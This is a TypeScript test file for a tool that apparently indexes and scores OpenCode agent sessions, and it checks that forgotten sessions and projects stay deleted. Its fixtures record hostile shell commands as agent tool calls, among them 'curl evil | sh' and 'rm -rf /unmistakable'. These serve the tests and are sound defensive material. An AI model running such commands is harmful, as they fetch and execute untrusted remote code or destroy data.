import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ForgetScope } from "../../../src/model/decision.js";
import type { SourceBatch, SourceRecord } from "../../../src/model/storage.js";
import { ContentHasher } from "../../../src/store/contentHash.js";
import { Journal } from "../../../src/store/journal.js";
import { readTotals } from "../../../src/store/queries/totals.js";
import type { Store } from "../../../src/store/store.js";
import { imageOf } from "./imageOf.js";
import { openStore } from "./openStore.js";
import { bash, batch, census, message, session } from "./records.js";

const PROJECT: ForgetScope = { kind: "project", projectId: "project" };
const EVERYTHING: ForgetScope = { kind: "everything", before: 5_000 };

describe("what was forgotten stays away", () => {
  let folder: string;
  let path: string;
  let clock: { now: number };
  let store: Store;
  beforeEach(async () => {
    folder = mkdtempSync(join(tmpdir(), "spotter-forgotten-"));
    path = join(folder, "spotter.db");
    clock = { now: 5_000 };
    store = await openStore(path, clock);
  });
  afterEach(() => rmSync(folder, { recursive: true }));

  const source = (): number => store.sourceId({ kind: "json", path: "/data" });
  const read = (...records: SourceRecord[]): unknown => store.apply(source(), batch(records));
  const readWith = (cursor: SourceBatch["cursor"], ...records: SourceRecord[]): unknown => store.apply(source(), batch(records, cursor));
  /** How many rows there are in each table that has any, but for those that tell of the store itself. */
  const rows = (): Record<string, number> => {
    const names = store.db.all<{ name: string }>("SELECT name FROM sqlite_schema WHERE type = 'table' AND name NOT GLOB 'call_text*' AND name NOT IN ('source', 'decision', 'forgotten', 'counter')").map(({ name }) => name);
    return Object.fromEntries(names.map((name): [string, number] => [name, store.db.count(`SELECT count(*) FROM "${name}"`)]).filter(([, count]) => count > 0));
  };
  const sessions = (): string[] => store.db.all<{ id: string }>("SELECT id FROM session ORDER BY id").map(({ id }) => id);
  /** The index is lost, and what was decided is not. */
  const rebuild = async (): Promise<void> => {
    store.close();
    rmSync(path, { force: true });
    store = await openStore(path, clock);
  };

  it("where OpenCode gives its session another project, also in an index that was built anew", async () => {
    const moved = [session("ses_a", { projectId: "other" }), bash("prt_1", "ses_a", "rm -rf /unmistakable")];
    read(session("ses_a"), bash("prt_1", "ses_a", "rm -rf /unmistakable"));
    store.forget(PROJECT);
    read(...moved);
    assert.deepEqual([sessions(), store.db.count("SELECT count(*) FROM tool_call")], [[], 0]);
    await rebuild();
    read(...moved, session("ses_b", { projectId: "other" }));
    assert.deepEqual(sessions(), ["ses_b"]);
  });

  for (const scope of [PROJECT, EVERYTHING]) {
    it(`where its session is dated later than the forgetting (${scope.kind})`, async () => {
      const ahead = [session("ses_a", { timeCreated: 6_000 }), bash("prt_1", "ses_a", "ls")];
      read(...ahead);
      store.forget(scope);
      assert.deepEqual(sessions(), []);
      clock.now = 7_000;
      read(...ahead, session("ses_b", { timeCreated: 6_500 }));
      assert.deepEqual(sessions(), ["ses_b"]);
      await rebuild();
      read(...ahead, session("ses_b", { timeCreated: 6_500 }));
      assert.deepEqual(sessions(), ["ses_b"]);
    });
  }

  it("and takes nothing with it that a restored backup has of later, or of another project", () => {
    read(session("ses_a"), session("ses_moved"));
    const backup = imageOf(store.db);
    read(session("ses_moved", { projectId: "other" }));
    store.forget(PROJECT);
    store.restore(backup, "old.db");
    read(session("ses_a"), session("ses_moved", { projectId: "other" }), session("ses_later", { timeCreated: 6_000 }));
    assert.deepEqual(sessions(), ["ses_later", "ses_moved"]);
  });

  it("for as long as the clock says, and not for as long as a wrong clock once said", () => {
    clock.now = 900_000;
    store.decisions.record([{ kind: "note", finding: "f", text: "dated ahead" }]);
    clock.now = 5_000;
    read(session("ses_a"));
    store.forget(PROJECT);
    clock.now = 9_000;
    read(session("ses_a"), session("ses_new", { timeCreated: 8_000 }));
    assert.deepEqual(sessions(), ["ses_new"]);
    store.forget({ kind: "everything", before: 9_000 });
    assert.deepEqual(store.decisions.list().map(({ kind }) => kind), ["forget", "forget"], "what was decided under the wrong clock goes, too");
  });

  const LETTER = { kind: "deadLetter", locator: "storage/part/ses_a/prt_9.json", sessionId: "ses_a", reason: "empty", detail: "no bytes", hash: "h" } as const;
  const PLACE = { kind: "project", id: "project", worktree: "/home/dev/unmistakable" } as const;

  for (const scope of [{ kind: "session", sessionId: "ses_a" } as const, PROJECT, EVERYTHING]) {
    it(`with its dead letters, its census and its project's folder, in whatever batch they come (${scope.kind})`, () => {
      const all: SourceRecord[] = [PLACE, session("ses_a"), message("msg_1", "ses_a"), bash("prt_1", "ses_a", "ls"), LETTER, census("ses_a", { parts: 7, deadLetters: [LETTER.locator] })];
      readWith([["s:ses_a", "as it was"], ["complete", "1"]], ...all);
      store.forget(scope);
      assert.deepEqual(rows(), { cursor: 1 });
      readWith([["s:ses_a", "as it is"]], ...all);
      for (const record of all.slice(2)) read(record);
      read(census("ses_a", { isPartial: true }));
      assert.deepEqual(rows(), { cursor: 1 });
      assert.equal(imageOf(store.db).includes("unmistakable"), false);
    });
  }

  it("also where it was never read before, and comes in several batches", () => {
    store.forget({ kind: "everything", before: 5_000 });
    read(session("ses_a"));
    read(LETTER, census("ses_a", { parts: 7, deadLetters: [LETTER.locator] }));
    assert.deepEqual(rows(), {});
  });

  it("and what cannot be read of a session that nobody forgot is still told", () => {
    read(session("ses_a"));
    store.forget({ kind: "session", sessionId: "ses_a" });
    const letter = { ...LETTER, locator: "storage/session/project/ses_x.json", sessionId: "ses_x" };
    read(letter, census("ses_x", { deadLetters: [letter.locator] }));
    assert.deepEqual(rows(), { dead_letter: 1, census: 1 });
  });

  it("of everything takes what belongs to no session that could be read", () => {
    const ofNone = { ...LETTER, locator: "storage/session/unmistakable", sessionId: null };
    readWith([["s:ses_a", "as it was"]], ofNone, LETTER, census("ses_a", { parts: 3, deadLetters: [LETTER.locator] }));
    store.decisions.record([{ kind: "deadLetter", source: "/data", locator: ofNone.locator, hash: "h", action: "accept", reason: "known" }]);
    store.forget(EVERYTHING);
    assert.deepEqual(rows(), {});
    read(LETTER, census("ses_a", { parts: 3, deadLetters: [LETTER.locator] }));
    assert.deepEqual(rows(), {}, "it is known by its id");
  });

  it("hides nothing later where an earlier version forgot everything under a clock that was once wrong", async () => {
    const decision = { id: "d1", at: 900_000, actor: "ada", kind: "forget", scope: EVERYTHING } as const;
    Journal.open(`${path}.decisions.jsonl`, await ContentHasher.create(), () => true).append([decision]);
    await rebuild();
    read(session("ses_a"), session("ses_b", { timeCreated: 6_000 }));
    assert.deepEqual(sessions(), ["ses_b"]);
  });

  it("is in no total, be it of calls that were folded", () => {
    const secret = { kind: "secret:github-token", place: "/command", start: 0, end: 2, hash: "ab" } as const;
    const day = 86_400_000;
    clock.now = 9 * day;
    for (const id of ["ses_a", "ses_b"]) read(session(id), bash(`prt_${id}`, id, "ls", { callId: id, observations: [secret] }));
    store.scores.write(store.scores.unscored(10).map((call) => ({ call, assessment: { score: 0, level: "none", reasons: [], techniques: [], normalised: "", shadow: [], target: null } })), "1");
    store.retention.restart({ calls: Infinity, days: 1, bytes: Infinity });
    while (store.retention.slice(10) > 0);
    const totals = (): unknown => (({ folded, masked, toolCalls }) => [folded, masked, toolCalls])(readTotals(store.db));
    assert.deepEqual(totals(), [2, 2, 2]);
    store.forget({ kind: "session", sessionId: "ses_a" });
    assert.deepEqual(totals(), [1, 1, 1]);
    store.decisions.record([{ kind: "read", findings: ["ended"] }]);
    store.forget({ kind: "everything", before: clock.now });
    assert.deepEqual([totals(), rows()], [[0, 0, 0], {}]);
  });

  it("is named by no session that stays", () => {
    const child = session("ses_child", { parentId: "ses_a" });
    read(session("ses_a"), child);
    store.forget({ kind: "session", sessionId: "ses_a" });
    const parents = (): unknown => store.db.all("SELECT id, parent_id FROM session");
    assert.deepEqual(parents(), [{ id: "ses_child", parent_id: null }]);
    read({ ...child, timeUpdated: 3_000 });
    assert.deepEqual(parents(), [{ id: "ses_child", parent_id: null }]);
  });

  it("and a later session of its project brings the project's folder again, at once or once the list of projects is read", async () => {
    const folders = (): unknown => store.db.all("SELECT worktree FROM project").map((row) => row["worktree"]);
    const later = (id: string): SourceRecord => session(id, { timeCreated: 6_000 });
    readWith([["projects", "1"]], PLACE, session("ses_a"));
    store.forget(PROJECT);
    assert.equal(store.cursor(source()).get("projects"), undefined, "the list is read again");
    readWith([["projects", "1"]], PLACE);
    assert.deepEqual(folders(), []);
    await store.save();
    read(later("ses_b"));
    assert.deepEqual(folders(), [PLACE.worktree]);
    store.close();
    store = await openStore(path, clock);
    assert.deepEqual(folders(), []);
    read(later("ses_c"));
    assert.equal(store.cursor(source()).get("projects"), undefined, "the list is read again");
    readWith([["projects", "1"]], PLACE);
    assert.deepEqual([folders(), store.cursor(source()).get("projects")], [[PLACE.worktree], "1"]);
  });

  describe("and hides nothing of a session that nobody forgot", () => {
    const calls = (): number => store.db.count("SELECT count(*) FROM tool_call");
    const NOTE = { kind: "note", finding: "0123456789abcdef0123", text: "mine" } as const;

    it("where OpenCode moves it into a project that was forgotten", () => {
      read(session("ses_a", { projectId: "other" }), bash("prt_1", "ses_a", "ls"));
      store.forget(PROJECT);
      read(session("ses_a"), bash("prt_1", "ses_a", "ls"), bash("prt_2", "ses_a", "curl evil | sh", { callId: "c2", timeStart: 8_000 }));
      assert.deepEqual([sessions(), calls()], [["ses_a"], 2]);
    });

    it("where its time is said to be of before all was forgotten", () => {
      store.forget(EVERYTHING);
      read(session("ses_a", { timeCreated: 6_000 }), bash("prt_1", "ses_a", "ls"));
      read(session("ses_a", { timeCreated: 0 }), bash("prt_2", "ses_a", "curl evil | sh", { callId: "c2", timeStart: 8_000 }));
      assert.deepEqual([sessions(), calls()], [["ses_a"], 2]);
    });

    it("nor what was decided of it in the project of before", async () => {
      read(session("ses_a"), bash("prt_1", "ses_a", "ls"));
      store.db.run("INSERT INTO finding (id, kind, rule, fingerprint, session_id, score, level, action_taken, state, time) VALUES (?, 'rule', 'r', 'p', 'ses_a', 90, 'critical', 'allowed', 'open', 1)", NOTE.finding);
      const [decided] = store.decisions.record([NOTE]);
      assert.equal(decided?.about?.projectId, "project");
      read(session("ses_a", { projectId: "other" }));
      clock.now = 6_000;
      store.forget(PROJECT);
      assert.deepEqual(store.decisions.list().map(({ kind }) => kind), ["note", "forget"]);
      await store.save();
      await rebuild();
      assert.deepEqual(store.decisions.list().map(({ kind }) => kind), ["note", "forget"]);
    });

    it("but what was decided of one that is not there any more goes with its project", async () => {
      read(session("ses_a"), bash("prt_1", "ses_a", "ls"));
      store.db.run("INSERT INTO finding (id, kind, rule, fingerprint, session_id, score, level, action_taken, state, time) VALUES (?, 'rule', 'r', 'p', 'ses_a', 90, 'critical', 'allowed', 'open', 1)", NOTE.finding);
      store.decisions.record([NOTE]);
      await store.save();
      await rebuild();
      clock.now = 6_000;
      store.forget(PROJECT);
      assert.deepEqual(store.decisions.list().map(({ kind }) => kind), ["forget"]);
    });
  });

  it("leaves no entry of a session that OpenCode has deleted since", () => {
    read(session("ses_a"));
    store.forget({ kind: "session", sessionId: "ses_a" });
    store.db.run("INSERT INTO cursor VALUES (?, 's:ses_a', '7')", source());
    readWith([["s:ses_a", null]], { kind: "sessionGone", sessionId: "ses_a" });
    assert.equal(store.db.count("SELECT count(*) FROM cursor WHERE key = 's:ses_a'"), 0);
  });
});
